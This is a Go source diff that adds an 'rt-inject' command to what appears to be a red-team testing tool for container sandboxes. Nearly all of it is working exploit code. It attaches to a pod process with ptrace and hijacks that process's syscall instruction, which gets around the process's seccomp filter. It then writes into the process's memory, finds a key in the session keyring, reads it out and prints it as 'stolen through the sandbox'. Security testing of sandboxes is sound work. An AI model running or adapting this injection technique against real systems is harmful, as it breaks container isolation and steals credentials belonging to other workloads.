@@ -4,6 +4,7 @@ import (
 	"errors"
 	"fmt"
 	"os"
+	"runtime"
 	"strconv"
 	"strings"
 
@@ -20,6 +21,7 @@ func init() {
 	register("rt-read", rtRead)
 	register("rt-mknod-open", rtMknodOpen)
 	register("rt-syscall", rtSyscall)
+	register("rt-inject", rtInject)
 }
 
 // rtWritableMount succeeds if the filesystem holding PATH is mounted
@@ -124,3 +126,126 @@ func rtSyscall(args []string) error {
 	fmt.Printf("%s ran: errno %d (%v)\n", args[0], int(errno), errno)
 	return nil
 }
+
+// rtInject attaches to PID (the pod sandbox, PID 1 of a shared PID
+// namespace, needs CAP_SYS_PTRACE) and makes it run keyctl(2), which the
+// pod's own seccomp filter refuses: the calls run under the tracee's
+// filter, not the tracer's. It asks for the tracee's session keyring, and
+// with DESC searches it for a "user" key and prints what it reads. The
+// tracee is left as it was.
+//
+//	attacker rt-inject PID [DESC]
+func rtInject(args []string) error {
+	if len(args) < 1 || len(args) > 2 {
+		return errors.New("usage: rt-inject PID [DESC]")
+	}
+	pid, err := strconv.Atoi(args[0])
+	if err != nil {
+		return err
+	}
+	runtime.LockOSThread()
+	in, err := attachInjector(pid)
+	if err != nil {
+		return err
+	}
+	defer in.detach()
+	ses, err := in.syscall(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, sessionKeyring, 0)
+	fmt.Printf("injected keyctl(KEYCTL_GET_KEYRING_ID, session) = %d (%v)\n", int64(ses), err)
+	if err != nil {
+		return fmt.Errorf("injected keyctl: %w", err)
+	}
+	if len(args) < 2 {
+		return nil
+	}
+	page, err := in.syscall(unix.SYS_MMAP, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS, ^uint64(0), 0)
+	if err != nil {
+		return fmt.Errorf("injected mmap: %w", err)
+	}
+	defer in.syscall(unix.SYS_MUNMAP, page, 4096)
+	strs := []byte("user\x00" + args[1] + "\x00")
+	if _, err := unix.PtracePokeData(pid, uintptr(page), strs); err != nil {
+		return fmt.Errorf("writing the tracee: %w", err)
+	}
+	id, err := in.syscall(unix.SYS_KEYCTL, unix.KEYCTL_SEARCH, sessionKeyring, page, page+5, 0)
+	if err != nil {
+		return fmt.Errorf("injected keyctl(KEYCTL_SEARCH, %q): %w", args[1], err)
+	}
+	buf := page + 1024
+	n, err := in.syscall(unix.SYS_KEYCTL, unix.KEYCTL_READ, id, buf, 1024)
+	if err != nil {
+		return fmt.Errorf("injected keyctl(KEYCTL_READ, %d): %w", id, err)
+	}
+	out := make([]byte, min(n, 1024))
+	if _, err := unix.PtracePeekData(pid, uintptr(buf), out); err != nil {
+		return fmt.Errorf("reading the tracee: %w", err)
+	}
+	fmt.Printf("stolen through the sandbox: %s\n", out)
+	return nil
+}
+
+// injector holds a stopped tracee and a syscall instruction in its text.
+type injector struct {
+	pid   int
+	saved unix.PtraceRegs
+	insn  uint64
+}
+
+func attachInjector(pid int) (*injector, error) {
+	if err := unix.PtraceAttach(pid); err != nil {
+		return nil, fmt.Errorf("ptrace(PTRACE_ATTACH, %d): %w", pid, err)
+	}
+	in := &injector{pid: pid}
+	var ws unix.WaitStatus
+	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
+		unix.PtraceDetach(pid)
+		return nil, fmt.Errorf("wait4: %w", err)
+	}
+	if err := unix.PtraceGetRegs(pid, &in.saved); err != nil {
+		unix.PtraceDetach(pid)
+		return nil, fmt.Errorf("PTRACE_GETREGS: %w", err)
+	}
+	// A thread stopped in a syscall sits just after its instruction.
+	code := make([]byte, 2)
+	if _, err := unix.PtracePeekText(pid, uintptr(in.saved.Rip-2), code); err != nil || code[0] != 0x0f || code[1] != 0x05 {
+		unix.PtraceDetach(pid)
+		return nil, fmt.Errorf("no syscall instruction before rip %#x (%x, %v)", in.saved.Rip, code, err)
+	}
+	in.insn = in.saved.Rip - 2
+	return in, nil
+}
+
+// syscall runs one syscall in the tracee and returns its result.
+func (in *injector) syscall(nr uint64, a ...uint64) (uint64, error) {
+	regs := in.saved
+	regs.Rax, regs.Orig_rax, regs.Rip = nr, ^uint64(0), in.insn
+	args := []*uint64{&regs.Rdi, &regs.Rsi, &regs.Rdx, &regs.R10, &regs.R8, &regs.R9}
+	for i, v := range a {
+		*args[i] = v
+	}
+	if err := unix.PtraceSetRegs(in.pid, &regs); err != nil {
+		return 0, fmt.Errorf("PTRACE_SETREGS: %w", err)
+	}
+	if err := unix.PtraceSingleStep(in.pid); err != nil {
+		return 0, fmt.Errorf("PTRACE_SINGLESTEP: %w", err)
+	}
+	var ws unix.WaitStatus
+	if _, err := unix.Wait4(in.pid, &ws, unix.WALL, nil); err != nil {
+		return 0, fmt.Errorf("wait4: %w", err)
+	}
+	if err := unix.PtraceGetRegs(in.pid, &regs); err != nil {
+		return 0, fmt.Errorf("PTRACE_GETREGS: %w", err)
+	}
+	if r := int64(regs.Rax); r < 0 && r > -4096 {
+		return 0, unix.Errno(-r)
+	}
+	return regs.Rax, nil
+}
+
+// detach puts the tracee's registers back and lets it go.
+func (in *injector) detach() {
+	unix.PtraceSetRegs(in.pid, &in.saved)
+	unix.PtraceDetach(in.pid)
+}
+
+// sessionKeyring is KEY_SPEC_SESSION_KEYRING (-3) as a register value.
+var sessionKeyring = uint64(0xfffffffffffffffd)
